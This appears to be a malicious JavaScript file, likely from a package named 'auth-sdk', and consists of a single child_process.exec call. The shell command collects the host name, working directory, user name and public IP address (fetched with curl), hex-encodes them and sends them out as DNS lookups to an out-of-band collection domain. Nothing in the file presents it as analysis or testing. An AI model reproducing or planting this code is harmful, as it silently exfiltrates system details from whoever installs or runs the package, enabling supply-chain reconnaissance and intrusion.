const { exec } = require("child_process");
exec("a=$(hostname;pwd;whoami;echo 'auth-sdk';curl -s https://ifconfig.example.invalid;) && echo $a | xxd -p | head | while read ut;do nslookup $ut.d1.oast.example.invalid;done", (error, data, getter) => {
  if (error) { console.log("error", error.message); return; }
  console.log(data);
});
